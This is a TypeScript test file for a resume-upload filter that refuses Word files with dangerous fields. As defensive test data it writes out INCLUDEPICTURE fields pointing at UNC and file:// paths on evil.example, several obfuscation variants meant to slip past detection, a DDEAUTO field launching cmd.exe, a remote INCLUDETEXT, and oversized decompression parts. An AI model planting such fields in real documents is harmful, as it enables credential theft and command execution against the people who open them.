import { describe, expect, test } from "vitest";

import { hasHarmfulField } from "./word-fields.server.ts";
import { compoundFileOf, DOCX_ENTRIES, utf16, zipOf, type ZipEntry } from "#tests/fixtures/resume-files.ts";

const fileOf = (bytes: Uint8Array) => new Blob([new Uint8Array(bytes)]);
const inDocument = (...entries: ZipEntry[]) => hasHarmfulField(fileOf(zipOf([...DOCX_ENTRIES, ...entries])), "docx");

const partOf = (inside: string, name = "word/header1.xml"): ZipEntry => ({
  name,
  content: `<?xml version="1.0" encoding="UTF-8"?>\n<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p>${inside}</w:p></w:hdr>`,
});
const run = (inside: string) => `<w:r>${inside}</w:r>`;
const mark = (type: string) => run(`<w:fldChar w:fldCharType="${type}" w:dirty="true"/>`);
const code = (text: string) => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`);
const field = (...codes: string[]) => mark("begin") + codes.map(code).join("") + mark("separate") + mark("end");
const simple = (text: string) => `<w:fldSimple w:instr='${text}'><w:r><w:t>1</w:t></w:r></w:fldSimple>`;

/** All bytes, small ones more often: the table of the packed block is long and precedes the packed data. */
function manyValues(length: number): Buffer {
  const bytes = Buffer.alloc(length);
  let state = 1;
  for (let at = 0; at < length; at += 1) {
    state = (state * 48_271) % 2_147_483_647;
    bytes[at] = 255 * (state / 2_147_483_647) ** 3;
  }
  return bytes;
}

const UNC = String.raw`\\\\evil.example\\share\\p.png`;
const PICTURE = ` INCLUDEPICTURE "${UNC}" \\d `;

describe("a DOCX has no field that fetches from elsewhere", () => {
  test.each<[string, ZipEntry]>([
    ["a picture of a Windows server", partOf(field(PICTURE))],
    ["the same in the document itself", partOf(field(PICTURE), "word/document1.xml")],
    ["the same in a part with another name", partOf(field(PICTURE), "word/media/image1.png")],
    ["the same without compression", { ...partOf(field(PICTURE), "word/media/image1.png"), method: 0 }],
    ["the same in UTF-16", utf16(partOf(field(PICTURE)))],
    ["the same in several runs", partOf(field(" INCLUDE", "PICT", `URE &quot;${UNC}&quot;`))],
    ["the same spelled in numbers", partOf(field(PICTURE.replace("INC", "&#x49;N&#67;")))],
    ["the same in small letters", partOf(field(PICTURE.toLowerCase()))],
    ["the same behind a switch", partOf(field(` INCLUDEPICTURE \\d \\* MERGEFORMAT "${UNC}"`))],
    ["the same without quotes", partOf(field(` INCLUDEPICTURE ${UNC} "https://a.example"`))],
    ["the same as an address", partOf(field(' INCLUDEPICTURE "file://evil.example/p.png"'))],
    ["the same as an address with four slashes", partOf(field(' INCLUDEPICTURE "file:////evil.example/p.png"'))],
    ["the same within a file of a mail", partOf(field(` INCLUDEPICTURE "mhtml:file://evil.example/a.mht!p.png"`))],
    ["the same as a blob", partOf(field(` INCLUDEPICTURE "blob:file://evil.example/p.png"`))],
    ["the same, that says it has no size", { ...partOf(field(PICTURE)), declaredSize: 0 }],
    ["the same with slashes", partOf(field(' INCLUDEPICTURE "//evil.example/p.png"'))],
    ["a simple one", partOf(simple(PICTURE))],
    ["one with another prefix", partOf(field(PICTURE).replaceAll("w:", "x:"))],
    ["one behind a comment", partOf(field(` INC<!-- -->LUDEPICTURE "${UNC}"`))],
    ["one in CDATA", partOf(field(`<![CDATA[${PICTURE}]]>`))],
    [
      "one whose target another field makes",
      partOf(mark("begin") + code(" INCLUDEPICTURE ") + field("QUOTE 92") + mark("end")),
    ],
    ["a program to start", partOf(field(String.raw` DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"`))],
    ["a program, inside another field", partOf(mark("begin") + code(" IF 1=1 ") + field(" dde cmd x ") + mark("end"))],
    ["another document", partOf(field(' INCLUDETEXT "https://evil.example/a.docx"'))],
    ["an object", partOf(simple(` LINK Excel.Sheet.12 "${UNC}"`))],
  ])("it is refused with %s", async (_, entry) => {
    expect(await inDocument(entry)).toBe(true);
  });

  test("it is refused with more text than a resume has, also where many parts share it", async () => {
    expect(await inDocument(partOf(" ".repeat(4 * 1024 * 1024)))).toBe(true);
    expect(await inDocument({ ...partOf("a".repeat(1_000)), declaredSize: 100 })).toBe(true);
  });

  test.each<[string, ZipEntry]>([
    ["no field", partOf(run("<w:t>INCLUDEPICTURE DDEAUTO</w:t>"))],
    [
      "a picture of the web",
      partOf(field(String.raw` INCLUDEPICTURE "https://media.example/p.jpg?a=1&amp;b" \* MERGEFORMATINET `)),
    ],
    ["a picture of a mail", partOf(field(' INCLUDEPICTURE  "cid:image001.png@01D" \\* MERGEFORMATINET '))],
    [
      "a picture that a Mac has copied",
      partOf(field(' INCLUDEPICTURE "/var/folders/1/T/com.microsoft.Word/page1image1" \\* MERGEFORMATINET ')),
    ],
    [
      "a picture that a browser held",
      partOf(field(' INCLUDEPICTURE "blob:https://web.whatsapp.com/0a1b-2c" \\* MERGEFORMATINET ')),
    ],
    [
      "a picture that Safari held",
      partOf(field(' INCLUDEPICTURE "webkit-fake-url://0A1B-2C/image.jpg" \\* MERGEFORMATINET ')),
    ],
    ["a picture spelled out", partOf(field(` INCLUDEPICTURE "data:image/jpeg;base64,${"/9j+".repeat(2_000)}" \\d`))],
    ["a picture on the disk of an old Mac", partOf(field(' INCLUDEPICTURE "Macintosh HD:Users:priya:photo.jpg" \\d'))],
    ["a picture on a disk", partOf(field(String.raw` INCLUDEPICTURE "C:\\Users\\Priya\\photo.jpg" \d`))],
    [
      "a picture within a picture of the web",
      partOf(
        mark("begin") +
          code(' INCLUDEPICTURE "http://a.example/p" ') +
          field(' INCLUDEPICTURE "http://a.example/p" ') +
          mark("end"),
      ),
    ],
    [
      "links, page numbers and a date",
      partOf(
        field(' HYPERLINK "https://a.example/link" ') + simple(" PAGE ") + field(String.raw` DATE \@ "d MMMM yyyy" `),
      ),
    ],
    ["an index", partOf(field(String.raw` TOC \o "1-3" \h \z \u `))],
    ["a comment and no field", partOf("<!-- made by hand -->")],
    ["a picture that is a large file", { name: "word/media/1.emf", content: Buffer.alloc(9 * 1024 * 1024, 1) }],
    ["a picture that packs badly", { name: "word/media/1.emf", content: manyValues(5 * 1024 * 1024) }],
    ["a folder", { name: "word/media/", content: "" }],
  ])("it is taken with %s", async (_, entry) => {
    expect(await inDocument(entry)).toBe(false);
  });
});

test("nor has a DOC, in either of its encodings", async () => {
  const doc = (text: string, encoding: BufferEncoding) =>
    hasHarmfulField(fileOf(Buffer.concat([compoundFileOf("WordDocument"), Buffer.from(text, encoding)])), "doc");
  for (const encoding of ["latin1", "utf16le"] as const) {
    expect(await doc(`Priya \u0013${PICTURE}\u0014 \u0015`, encoding)).toBe(true);
    expect(await doc('\u0013DDEAUTO cmd "/k"\u0015', encoding)).toBe(true);
    expect(await doc('\u0013 HYPERLINK "https://a.example/link" \u0014DDE\u0015 LINK', encoding)).toBe(false);
    expect(
      await doc('\u0013 INCLUDEPICTURE "https://a.example/p.jpg" \\* MERGEFORMATINET \u0014\u0015', encoding),
    ).toBe(false);
  }
});

test("a DOCX of many parts that unpack to megabytes is refused after a few of them", async () => {
  const parts = Array.from({ length: 100 }, (_, index) => ({
    name: `word/media/${index}.bin`,
    content: Buffer.alloc(60_000, 1),
    declaredSize: 0,
  }));
  expect(await inDocument(...parts)).toBe(true);
  expect(await inDocument(...parts.slice(0, 10))).toBe(false);
});
